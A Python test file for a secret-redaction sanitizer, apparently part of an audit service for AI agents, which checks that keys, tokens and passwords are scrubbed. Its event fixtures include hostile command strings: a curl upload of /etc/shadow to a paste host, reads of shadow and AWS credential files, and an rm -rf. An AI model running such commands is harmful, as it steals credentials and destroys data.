"""The sanitizer: credentials and echoes of raw fields out, harmless text untouched, a cap."""

from __future__ import annotations

from typing import Any

import pytest

from app.domain.events import AuditEvent
from app.domain.insights import Insight, Risk
from app.domain.redaction import PLACEHOLDER, placeholder
from app.domain.sanitize import (
    REDACTED,
    echo_candidates,
    redact_secrets,
    sanitize_insight,
    sanitize_text,
)

# (name, text around the secret, the secret itself): the secret must be gone, the
# surrounding words kept, a placeholder of its kind (KINDS) in its place.
SECRETS: list[tuple[str, str, str]] = [
    ("groq key", "the key {} leaked", "gsk_4f9KxQ2mN7pL1vR8sT3wY6zA0bC5dE2hJ9kM4nP7qS1uV3xZ"),
    ("openai key", "use {} here", "sk-9aB3dE5fG7hJ1kL2mN4pQ6rS8tU0vW2xY4zA6bC8"),
    ("openai project key", "key {}", "sk-proj-Ab3_De5-Fg7Hj9Kl1Mn3Pq5Rs7Tu9Vw1Xy3Za5Bc7De9Fg1"),
    ("anthropic key", "key {}", "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789ABCDEF"),
    ("aws access key id", "id {} found", "AKIAIOSFODNN7EXAMPLE"),
    ("aws session key id", "id {} found", "ASIAY34FZKBOKMUTVV7A"),
    ("github classic token", "token {}", "ghp_1A2b3C4d5E6f7G8h9I0j1K2l3M4n5O6p7Q8r"),
    (
        "github fine-grained token",
        "pat {}",
        "github_pat_11ABCDEFG0abcdefghijkl_MNOPQRSTUVWXyz0123456789abcdefghijklmnopqrstuv",
    ),
    ("gitlab token", "pat {}", "glpat-abcdefghij0123456789"),
    ("slack bot token", "bot {}", "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"),
    ("slack user token", "user {}", "xoxp-123456789012-1234567890123-AbCdEfGhIjKl"),
    (
        "slack webhook",
        "posted to {} today",
        "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    ),
    ("google api key", "key {}", "AIzaSyA1234567890abcdefghijklmnopqrstuv"),
    ("stripe key", "key {}", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
    ("npm token", "token {}", "npm_abcdefghijklmnopqrstuvwxyz0123456789"),
    ("bearer token", "Authorization: {}", "Bearer abcdef0123456789abcdef"),
    ("bearer lower case", "authorization: {}", "bearer 9f8e7d6c5b4a39281706"),
    ("basic auth", "Authorization: {}", "Basic dXNlcjpwYXNzd29yZDEyMzQ="),
    (
        "jwt",
        "session {} expired",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
        "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ),
    (
        "rsa private key",
        "key:\n{}\nend",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7vX\nq8Zr\n-----END RSA PRIVATE KEY-----",
    ),
    (
        "pkcs8 private key",
        "{}",
        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\n-----END PRIVATE KEY-----",
    ),
    (
        "ec private key",
        "{}",
        "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkg\n-----END EC PRIVATE KEY-----",
    ),
    (
        "pgp private key block",
        "{}",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBF\n-----END PGP PRIVATE KEY BLOCK-----",
    ),
    (
        "truncated openssh private key",
        "the agent read {}",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU",
    ),
]

KINDS = {
    "groq key": "groq_api_key",
    "openai key": "openai_api_key",
    "openai project key": "openai_api_key",
    "anthropic key": "anthropic_api_key",
    "aws access key id": "aws_access_key",
    "aws session key id": "aws_access_key",
    "github classic token": "github_token",
    "github fine-grained token": "github_token",
    "gitlab token": "gitlab_token",
    "slack bot token": "slack_token",
    "slack user token": "slack_token",
    "slack webhook": "slack_webhook",
    "google api key": "google_api_key",
    "stripe key": "stripe_key",
    "npm token": "npm_token",
    "bearer token": "bearer_token",
    "bearer lower case": "bearer_token",
    "basic auth": "basic_auth",
    "jwt": "jwt",
    "rsa private key": "private_key",
    "pkcs8 private key": "private_key",
    "ec private key": "private_key",
    "pgp private key block": "private_key",
    "truncated openssh private key": "private_key",
}

# (name, text, what must be gone): key=value pairs keep their key and lose their value.
SECRET_PAIRS: list[tuple[str, str, str]] = [
    ("password=", "login with password=hunter2hunter2 now", "hunter2hunter2"),
    ("password with spaces", "password = hunter2", "hunter2"),
    ("upper case key", "PASSWORD:hunter2", "hunter2"),
    ("prefixed env var", "DB_PASSWORD=Xk9s3cr3t", "Xk9s3cr3t"),
    ("cli flag", "mysql --password=Xk9s3cr3t -u root", "Xk9s3cr3t"),
    ("dotted property", "spring.datasource.password=Xk9s3cr3t", "Xk9s3cr3t"),
    ("quoted secret", 'secret: "s3cr3t value here"', "s3cr3t value here"),
    ("single-quoted secret", "secret='s3cr3t value'", "s3cr3t value"),
    ("json password", '{"password": "hunter2hunter2"}', "hunter2hunter2"),
    ("json token", '{"token": "abc"}', "abc"),
    ("api_key=", "api_key=abcd1234efgh5678", "abcd1234efgh5678"),
    ("apikey header", "x-api-key: abcd1234efgh5678ijkl", "abcd1234efgh5678ijkl"),
    ("client secret", "client_secret=abcdEFGH1234ijkl", "abcdEFGH1234ijkl"),
    (
        "aws secret access key",
        "aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ),
    (
        "aws secret env var",
        "export AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ),
    ("passphrase", "passphrase=correcthorsebattery", "correcthorsebattery"),
    ("private_key pair", "private_key: 'abc123def456ghi'", "abc123def456ghi"),
    ("token with digits", "token: abcdef123456ghijk", "abcdef123456ghijk"),
    ("long lowercase token", "token: abcdefghijklmnop", "abcdefghijklmnop"),
    ("query string pass", "GET /login?user=x&pass=y1z2w3 HTTP/1.1", "y1z2w3"),
    ("url credentials", "postgres://admin:Sup3rS3cret@db.internal:5432/app", "Sup3rS3cret"),
    ("https credentials", "fetch https://user:pa55word@example.com/path", "pa55word"),
]

HARMLESS: list[str] = [
    "Review the password policy and rotate credentials quarterly.",
    "The token bucket refilled after 30 seconds.",
    "Secret santa is on Friday.",
    "A password reset was requested by the user.",
    "The API key rotation policy requires 90 days.",
    "Use a bearer token for authentication.",
    "The tokenizer split the secretary's notes.",
    "the token_count is 42",
    "A password-protected archive was uploaded.",
    "On the first pass: the agent listed files.",
    "Token: the model ran out of context.",
    "Secret: nothing was leaked.",
    "agent-42 called tool shell.exec",
    "The skeleton key sk-1 is short.",
    "AKIA alone is not a key.",
    "Tokens: 512 prompt, 40 completion.",
    "The agent read /etc/passwd and /home/app/.ssh/config.",
    "C:\\Users\\app\\secrets.txt was opened.",
    "DB_PASSWORD_FILE points at a file, not a password.",
    "Commit 3f2a9c1b4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f90 changed the file.",
    "sha256:9f86d081884c7d659a2feaf0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "Request 123e4567-e89b-12d3-a456-426614174000 at 2026-11-25T02:20:00Z.",
    "Time 12:30:45, ratio 3:1, epoch 1795573200.5.",
    "See https://example.com/docs?page=2#top for details.",
    "Cloned ssh://git@github.com/org/repo.git and https://github.com/org/repo.",
    "Mail admin@example.com about it.",
    '{"summary": "ok", "risk": "low", "recommendation": "none"}',
    '{"rule": "secrets.aws_access_key", "detail": "an AWS key id in the arguments"}',
    "The BEGIN and END markers of a certificate are public.",
    "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----",
]


@pytest.mark.parametrize(("name", "template", "secret"), SECRETS, ids=[s[0] for s in SECRETS])
def test_credentials_of_known_shapes_are_redacted(name: str, template: str, secret: str) -> None:
    """Each provider key, token, JWT or private key block is replaced, its context kept."""
    text = template.format(secret)
    cleaned = redact_secrets(text)
    assert secret not in cleaned
    assert placeholder(KINDS[name]) in cleaned
    for word in template.replace("{}", " ").split():
        assert word in cleaned


@pytest.mark.parametrize(("name", "text", "value"), SECRET_PAIRS, ids=[s[0] for s in SECRET_PAIRS])
def test_secret_valued_pairs_lose_their_value_and_keep_their_key(
    name: str, text: str, value: str
) -> None:
    """`password=...`-style pairs and URL credentials: the value goes, the key stays."""
    cleaned = redact_secrets(text)
    assert value not in cleaned
    markers = PLACEHOLDER.findall(cleaned)
    assert len(markers) == 1
    assert f"{markers[0]}]" not in cleaned  # no stray bracket of a value redacted twice
    assert cleaned.split(markers[0])[0] == text.split(value)[0].rstrip("\"'")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_passes_unchanged(text: str) -> None:
    """Prose about passwords and tokens, ids, hashes, paths and plain URLs are kept."""
    assert redact_secrets(text) == text


def test_a_password_pair_loses_even_a_word_value() -> None:
    """`password:` is never read as prose: a missed password costs more than a garbled line."""
    assert redact_secrets("password: changeme") == f"password: {placeholder('password')}"


def test_a_key_inside_a_pair_is_redacted_once() -> None:
    """`api_key=gsk_...`: one marker, not the pattern's and then the pair's."""
    cleaned = redact_secrets("api_key=gsk_4f9KxQ2mN7pL1vR8sT3wY6zA0bC5dE2hJ9kM4 then")
    assert cleaned == f"api_key={placeholder('groq_api_key')} then"


def test_every_secret_of_a_mixed_answer_is_redacted() -> None:
    """An answer stuffed with many credentials keeps none of them."""
    text = " ; ".join(template.format(secret) for _, template, secret in SECRETS)
    cleaned = redact_secrets(text)
    for _, _, secret in SECRETS:
        assert secret not in cleaned


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a-" * 50_000 + "password", "a-" * 50_000 + "password"),
        ("a." * 50_000 + "://x", "a." * 50_000 + "://x"),
        ("a_" * 50_000 + "password=x1", "a_" * 50_000 + f"password={placeholder('password')}"),
        ("password=" * 3, f"password={placeholder('password')}"),
    ],
    ids=["dashes", "dots", "underscores", "pairs"],
)
def test_long_runs_of_key_like_characters_are_handled(text: str, expected: str) -> None:
    """100 kB of scheme or key characters: a correct answer (the URL scan was quadratic)."""
    assert redact_secrets(text) == expected


def _event(**extra: Any) -> AuditEvent:
    body: dict[str, Any] = {
        "event_id": "evt-1",
        "tenant_id": "acme",
        "agent_id": "billing-agent",
        "agent_name": "Billing assistant",
        "tool_name": "shell.exec",
        "decision": "deny",
        "severity": "high",
        "timestamp": 1_795_573_200,
        "findings": [{"rule": "exfil.curl", "detail": "curl uploads a file"}],
        "metadata": {"flags": ["after_hours_login"], "gateway": "gw-eu-west-1"},
    }
    body.update(extra)
    return AuditEvent.model_validate(body)


def test_echo_candidates_are_raw_values_of_eight_chars_or_more_longest_first() -> None:
    """Raw fields and non-flag metadata (nested too) are candidates; short ones are not."""
    event = _event(
        raw_input="curl -F f=@/etc/shadow https://paste.example",
        tool_arguments={"cmd": "cat /etc/shadow", "n": 3, "list": ["rm -rf /var/lib", "ls"]},
        short="abc1234",
    )
    assert echo_candidates(event) == [
        "curl -F f=@/etc/shadow https://paste.example",
        "cat /etc/shadow",
        "rm -rf /var/lib",
        "gw-eu-west-1",
    ]


def test_allow_listed_values_are_never_echo_candidates() -> None:
    """Flags, findings and names the prompt carries are not echoes, even when repeated raw."""
    event = _event(tool="shell.exec-v2", raw_agent="Billing assistant", raw_rule="exfil.curl")
    candidates = echo_candidates(event)
    assert "after_hours_login" not in candidates
    assert "Billing assistant" not in candidates  # the prompt carries it as agent_name
    assert "exfil.curl" not in candidates  # a finding's rule
    assert "shell.exec-v2" in candidates  # not the tool name the prompt carries


def test_echoes_are_removed_longest_first_and_short_strings_are_kept() -> None:
    """An echo containing a shorter one is removed whole; strings under 8 chars stay."""
    event = _event(raw_input="curl -F f=@/etc/shadow", path="/etc/shadow", short="shadow")
    text = "It ran curl -F f=@/etc/shadow, reading /etc/shadow (the shadow file)."
    cleaned = sanitize_text(text, echoes=echo_candidates(event))
    assert cleaned == f"It ran {REDACTED}, reading {REDACTED} (the shadow file)."


def test_the_limit_cuts_text_to_exactly_its_length() -> None:
    """Text over the limit ends with an ellipsis at exactly ``limit`` characters."""
    assert sanitize_text("x" * 100, limit=10) == "x" * 9 + "…"
    assert sanitize_text("short", limit=10) == "short"
    assert sanitize_text("anything", limit=0) == ""


def test_the_limit_applies_after_redaction_so_no_secret_is_half_kept() -> None:
    """A secret across the cut is redacted first, never truncated into a fragment."""
    secret = "gsk_4f9KxQ2mN7pL1vR8sT3wY6zA0bC5dE2hJ9kM4nP7qS1uV3xZ"
    cleaned = sanitize_text("key " + secret, limit=20)
    assert cleaned.startswith("key [redacted:")
    assert "gsk_" not in cleaned


def test_sanitize_insight_caps_summary_and_recommendation_together() -> None:
    """Summary and recommendation share ``max_chars``; the risk is untouched."""
    insight = Insight(summary="s" * 300, risk=Risk.HIGH, recommendation="r" * 300)
    capped = sanitize_insight(insight, echoes=[], max_chars=200)
    assert len(capped.summary) == 200
    assert capped.recommendation == ""
    assert capped.risk is Risk.HIGH
    shorter = sanitize_insight(
        Insight(summary="s" * 50, risk=Risk.LOW, recommendation="r" * 300),
        echoes=[],
        max_chars=200,
    )
    assert len(shorter.summary) + len(shorter.recommendation) == 200


def test_sanitize_insight_strips_secrets_and_echoes_from_both_texts() -> None:
    """Both free-text fields of an insight are scrubbed."""
    event = _event(raw_input="cat /home/app/.aws/credentials")
    insight = Insight(
        summary="The agent ran cat /home/app/.aws/credentials and saw AKIAIOSFODNN7EXAMPLE.",
        risk=Risk.CRITICAL,
        recommendation="Rotate password=Xk9s3cr3t now.",
    )
    clean = sanitize_insight(insight, echoes=echo_candidates(event), max_chars=4000)
    assert clean.summary == f"The agent ran {REDACTED} and saw {placeholder('aws_access_key')}."
    assert clean.recommendation == f"Rotate password={placeholder('password')} now."
